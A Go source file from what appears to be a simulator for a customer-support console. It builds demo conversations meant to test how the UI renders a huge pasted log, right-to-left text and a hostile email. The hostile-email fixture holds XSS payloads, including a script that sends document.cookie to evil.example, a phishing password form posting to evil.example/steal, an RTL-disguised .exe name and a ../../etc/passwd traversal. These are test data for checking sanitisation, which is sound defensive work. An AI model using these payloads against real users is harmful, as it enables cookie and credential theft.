package dixasim

import (
	"strconv"
	"strings"

	"github.com/example/dixa-console/apiclient"
)

// The content of the well-known demo conversations (DemoConversation).

// hugeBodySize is the size of DemoHugeMessage's big body: about 1 MB.
const hugeBodySize = 1 << 20

// hugeBody is a pasted log of a little over hugeBodySize bytes, as
// customers paste them into emails: many short lines, then one very long
// unbroken one.
func hugeBody() string {
	var b strings.Builder
	b.Grow(hugeBodySize + 16<<10)
	var num [24]byte
	b.WriteString("Hi, the checkout keeps failing. Here is the full log from the app:\n\n")
	for i := 0; b.Len() < hugeBodySize; i++ {
		b.WriteString("2026-10-03T12:")
		b.Write(strconv.AppendInt(num[:0], int64(10+i%50), 10))
		b.WriteString(":00.000Z ERROR checkout failed order=")
		b.Write(strconv.AppendInt(num[:0], int64(100000+i), 10))
		b.WriteString(" code=PAYMENT_DECLINED retry=")
		b.Write(strconv.AppendInt(num[:0], int64(i%7), 10))
		b.WriteString(" trace=")
		b.Write(strconv.AppendUint(num[:0], uint64(i)*0x9E3779B97F4A7C15, 16))
		b.WriteByte('\n')
	}
	b.WriteString("token=")
	for range 8000 / 100 { // no place to break a line
		b.WriteString("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
	}
	b.WriteString("\n\nPlease help!")
	return b.String()
}

// hostileHTML is DemoHostileEmail's first body: everything a mail client
// must not run or render as is.
const hostileHTML = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">` +
	`<style>@import url("https://evil.example/x.css"); body{background:#000} .x{position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:2147483647}</style></head>` +
	`<body onload="alert('onload')"><div class="x">Your session expired – <a href="javascript:alert(document.cookie)">log in again</a></div>` +
	`<script>fetch('https://evil.example/?c='+document.cookie)</script>` +
	`<p>Hi, please see the attached invoice<img src="x" onerror="alert('img')"></p>` +
	`<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>` +
	`<form action="https://evil.example/steal" method="post"><input name="password" type="password" placeholder="Confirm your password"><button>Confirm</button></form>` +
	`<a href="  JaVaScRiPt:alert(1)">Track parcel</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Receipt</a>` +
	`<svg><script>alert('svg')</script></svg><math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>` +
	`<p style="font-size:0">hidden text</p><p dir="rtl">Invoice: invoice` + "\u202E" + `fdp.exe</p>` +
	`<p>Order reference: {{.Secret}} ${7*7} <%= 7*7 %></p></body></html>`

// hostileText is a plain-text body full of markup that must stay text.
const hostileText = "<script>alert('text')</script>\nClick javascript:alert(1) or <a href=\"javascript:alert(2)\">here</a>.\n" +
	"Your file: invoice\u202Efdp.exe\n<style>*{display:none}</style>\n\"'><img src=x onerror=alert(3)>"

// demoEmail puts a demo conversation's special content into its i-th email.
func (t *thread) demoEmail(a *emailAttrs, i int) {
	switch t.src.demo {
	case DemoHugeMessage:
		switch i {
		case 0:
			a.EmailContent = &emailContent{Type: apiclient.EmailRegular, Content: &content{Type: apiclient.ContentText, Value: hugeBody()}}
		case 2:
			a.EmailContent = &emailContent{Type: apiclient.EmailTooLarge,
				File: &file{URL: filesBase + "/email_stripped_content/" + randomID(t.r), PrettyName: "Large Email Content"}}
			a.Attachments = append(a.Attachments, t.file("attachment", "order-history-2019-2026.xlsx"))
		}
	case DemoHostileEmail:
		switch i {
		case 0:
			a.EmailContent = &emailContent{Type: apiclient.EmailRegular, Content: &content{Type: apiclient.ContentHTML, Value: hostileHTML}}
			a.Attachments = append(a.Attachments,
				file{URL: "javascript:alert('attachment')", PrettyName: `"><img src=x onerror=alert(1)>.pdf`},
				t.file("attachment", "invoice\u202Efdp.exe"),
				file{URL: "https://evil.example/download?file=../../etc/passwd", PrettyName: "../../etc/passwd"})
			a.Cc = append(a.Cc, contact{Email: `"><script>alert('cc')</script>@hostile.example`, Name: "<b>Boss</b>"})
		case 2:
			a.EmailContent = &emailContent{Type: apiclient.EmailRegular, Content: &content{Type: apiclient.ContentText, Value: hostileText}}
		}
	}
}

// rtlLines are DemoRTLChat's customer lines: Arabic, Hebrew, mixed with
// left-to-right text, and a right-to-left override.
var rtlLines = []string{
	"مرحباً، لم يصل طلبي رقم ORD-48213 بعد (تم الشحن يوم 3 أكتوبر). שלום, ההזמנה שלי לא הגיעה.",
	"",
	"رقم التتبع: 1Z999AA10123456784 — هل هو صحيح؟ الملف: \u202Ecod.ecioval\u202C",
	"",
	"شكراً جزيلاً! 🙏 תודה רבה!",
}

// demoChat puts DemoRTLChat's lines into its customer messages.
func (t *thread) demoChat(a *textAttrs, i int) {
	if t.src.demo == DemoRTLChat && i < len(rtlLines) && rtlLines[i] != "" {
		a.Content = &content{Type: apiclient.ContentText, Value: rtlLines[i]}
	}
}
